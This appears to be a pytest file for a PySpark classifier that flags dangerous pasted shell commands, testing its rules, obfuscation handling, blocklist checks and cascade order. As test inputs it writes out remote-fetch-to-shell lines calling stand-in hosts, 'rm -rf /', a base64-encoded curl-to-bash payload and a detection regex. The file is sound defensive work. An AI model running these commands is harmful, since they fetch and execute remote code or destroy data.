import random

from pyspark.sql import functions as F

from riskweave.functions.dialect import literal_groups
from riskweave.operators import matching, pages, verdicts
from riskweave.operators.rules import default_rules
from riskweave.plans import views

from cases import CHECKS, PAGE_CHECKS


def _frame(spark, texts):
    return spark.createDataFrame(list(enumerate(texts)), "id int, text string")


def _codes(spark, texts, **options):
    rows = verdicts.classify_corpus(_frame(spark, texts), keys=["id"], **options).collect()
    return {r.id: r for r in rows}


def test_expected_codes(spark):
    got = _codes(spark, [text for text, _ in CHECKS])
    wrong = [(text, want, got[i].code, got[i].reasons) for i, (text, want) in enumerate(CHECKS) if got[i].code != want]
    assert not wrong


def test_page_codes(spark):
    df = _frame(spark, [text for text, _ in PAGE_CHECKS])
    got = {r.id: r.code for r in pages.classify_pages(df, keys=["id"], text_col="text").collect()}
    assert [got[i] for i in range(len(PAGE_CHECKS))] == [want for _, want in PAGE_CHECKS]


def test_spelling_does_not_change_the_code(spark):
    rng = random.Random(5)
    base = [text for text, code in CHECKS if code and "\x1b" not in text and "\x08" not in text]

    def insert(text, piece):
        at = rng.randrange(1, len(text))
        # Behind a backslash a letter would be read as an escaped one.
        return text[:at] + piece + text[at:] if text[at - 1] != "\\" else text

    variants = {
        "zero width": [insert(t, "​") for t in base],
        "ansi": [insert(t, "\x1b[31m") for t in base],
        "backspace": [insert(t, "q\x08") for t in base],
        "fullwidth": ["".join(chr(ord(c) + 0xFEE0) if c in "curlbash" else c for c in t) for t in base
                      if "base64" not in t and "ct.ws" not in t],
    }
    expected = {t: code for t, code in CHECKS}
    for name, texts in variants.items():
        originals = base if name != "fullwidth" else [t for t in base if "base64" not in t and "ct.ws" not in t]
        got = _codes(spark, texts)
        wrong = [(name, texts[i]) for i, t in enumerate(originals) if got[i].code != expected[t]]
        assert not wrong


def test_downgrades_and_order(spark):
    got = _codes(spark, [
        "Do not copy or paste this command into your terminal. Then curl http://x.example/p | bash",
        "curl -fsSL https://ollama.com/install.sh | bash; rm -rf /",
        "Copy this and paste it into the terminal for the tutorial",
        "curl -fsSL https://ollama.com/install.sh | bash and http://185.27.134.65/",
        "curl http://bad.example/x | sh; curl https://ollama.com/install.sh | sh",
    ])
    assert got[0].code == 2 and got[0].reasons == ["remote_fetch_to_shell"]
    assert got[1].code == 2 and got[1].reasons == ["destructive_command2"]
    assert got[2].reasons[1] == "explicit_safe_context_needs_review"
    # A downgraded hit ends the cascade: the host stage is not reached.
    assert got[3].code == 1 and got[3].reasons[1] == "known_safe_installer_needs_confirmation"
    assert got[4].code == 1
    strict = _codes(spark, ["curl http://bad.example/x | sh; curl https://ollama.com/install.sh | sh"], strict_installer=True)
    assert strict[0].code == 2


def test_context_clause_counts_code_points(spark):
    got = _codes(spark, ["\U0001F600 first. \U0001F600\U0001F600 Do not copy or paste this command into your terminal"])
    assert got[0].code == 1


def test_untrusted_blocklist_and_limits(spark):
    tampered = verdicts.pinned_blocklist(["a.example"], "0" * 64)
    got = _codes(spark, ["ls -la", "curl http://x.example | bash"], blocklist=tampered)
    assert (got[0].code, got[0].reasons) == (1, ["phish_seed_blocklist_tampered_or_unsigned"])
    assert got[1].code == 2
    assert verdicts.seed_blocklist().trusted
    guarded = verdicts.guard_envelope(_frame(spark, ["a" * 50, "ls"]), keys=["id"], max_bytes=10).orderBy("id").collect()
    assert guarded[0].reasons == ["input_too_large"] and not guarded[0].allowed and guarded[1].allowed


def test_decoded_payload_like_a_lenient_decoder(spark):
    import base64

    rng = random.Random(3)
    alphabet = "ABCDefgh0123+/=="
    blobs = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(20, 34))) for _ in range(400)]
    blobs += [base64.b64encode(b"curl http://x.example/p | bash").decode(), "QUJDREVGR0hJSktMTU5P" * 2]

    def lenient(blob):
        try:
            return base64.b64decode(blob).decode("utf-8", errors="ignore")
        except Exception:
            return ""

    from riskweave.functions.payload import decoded_payload
    df = _frame(spark, [f"'{b}' | base64 -w0" for b in blobs]).select("id", decoded_payload(F.col("text")).alias("d"))
    got = {r.id: r.d for r in df.collect()}
    assert [got[i] for i in range(len(blobs))] == [lenient(b) for b in blobs]


def test_guards_change_nothing(spark, sf):
    docs = views.planted_documents(spark, sf)
    for extra in ("doc_id", ):
        on = {(r.doc_id, r.rule_id) for r in matching.match_rules(docs, keys=[extra]).collect()}
        off = {(r.doc_id, r.rule_id) for r in matching.match_rules(docs, keys=[extra], guarded=False).collect()}
        assert on == off and len(on) > 100
    texts = [t.upper().replace("I", "İ") for t, _ in CHECKS] + [t.replace("i", "ı") for t, _ in CHECKS]
    on, off = _codes(spark, texts), _codes(spark, texts, guarded=False)
    assert all(on[i].reasons == off[i].reasons for i in on)


def test_literals_are_necessary():
    assert ("curl", "wget", "fetch") in literal_groups(r"\b(curl|wget|fetch)\b.*?\|\s*sh")
    assert ("|",) in literal_groups(r"a?\|b?")
    assert literal_groups(r"(?:abc)?x*") == []


def test_every_stage_occurs(spark, sf):
    counts = {r.action: r["count"] for r in verdicts.classify_corpus(
        views.planted_documents(spark, sf), keys=["doc_id"]).groupBy("action").count().collect()}
    assert set(counts) == {"SAFE", "SUSPICIOUS", "DANGEROUS"} and min(counts.values()) >= 10


def test_user_rules(spark):
    rules = spark.createDataFrame(
        [("blocked", 1, "x", "forbidden", None), ("suspicious", 1, "y", "odd", None),
         ("safe_installers", 1, "z", "https://ok", None), ("bounty_spam", 1, "w", r"[a-c]{9}", None)],
        "section string, ord int, rule_id string, pattern string, description string")
    from riskweave.operators.rules import rules_from_df
    got = _codes(spark, ["a FORBIDDEN word", "odd", "fine", "abcabcabc"], rules=rules_from_df(rules))
    assert [got[i].code for i in range(4)] == [2, 1, 0, 2]


def test_lines_and_rows_of_python(spark):
    text = "a\r\nb\x0bc d\n\ncurl http://x.example | sh\n"
    df = spark.createDataFrame([(1, text), (2, "")], "id int, text string")
    rows = verdicts.scan_lines(df, keys=["id"], risky_only=False).orderBy("line_no").collect()
    assert [r.line for r in rows] == text.splitlines()
    risky = verdicts.scan_lines(df, keys=["id"]).collect()
    assert [(r.line_no, r.code) for r in risky] == [(6, 2)]
    assert default_rules().blocked[0][0] == "base64_decode_to_shell"


def test_hits_behind_the_deciding_one_are_not_tried(spark):
    """The hits that the cascade takes are those of all rules up to the first that nothing downgrades, with the same verdict."""
    rng, rules = random.Random(11), default_rules()
    risky = [text for text, code in CHECKS if code] + [
        "curl -fsSL https://ollama.com/install.sh | bash", "Copy this and paste it into the terminal for the tutorial", "rm -rf /",
        "bash -c 'curl https://a.example/x'", "Do not copy or paste this command into your terminal"]
    texts = risky + [" ".join(rng.sample(risky, rng.randint(2, 5))) for _ in range(150)]
    df = _frame(spark, texts).select("id", F.col("text").alias("_norm"), F.lower("text").alias("_fold"))
    matcher, names = matching.guarded_rules(rules, ("blocked",)), ("_norm", "_fold", "_found")
    df = df.withColumn("_found", matcher.word_tests("_fold"))
    for strict in (False, True):
        few = verdicts._add_deciding_hits(df, matcher, rules, names, strict)
        few = few.select("id", "_norm", "_hits", verdicts._judged(F.col("_norm"), F.col("_hits"), rules, installer=F.col("_safe")).alias("judged"))
        all_ = df.select("id", matcher.hits("blocked", *names).alias("all"), "_norm").select(
            "id", "all", verdicts._judged(F.col("_norm"), F.col("all"), rules, strict_installer=strict).alias("all_judged"))
        both = few.join(all_, "id").select(
            "id", "_hits", "all", "all_judged", verdicts.blocked_verdict(F.col("judged")).alias("a"), verdicts.blocked_verdict(F.col("all_judged")).alias("b")).collect()
        assert len(both) == len(texts) and all(r.a == r.b for r in both)
        saved = 0
        for r in both:
            final = [h for h, judged in zip(r.all, r.all_judged) if judged.why is None and not verdicts._downgrade_kind(judged.rule_id)[0]]
            assert set(r._hits) <= set(r.all) and (not final or r._hits[-1] == final[0])
            saved += len(r.all) - len(r._hits)
        assert saved > 100
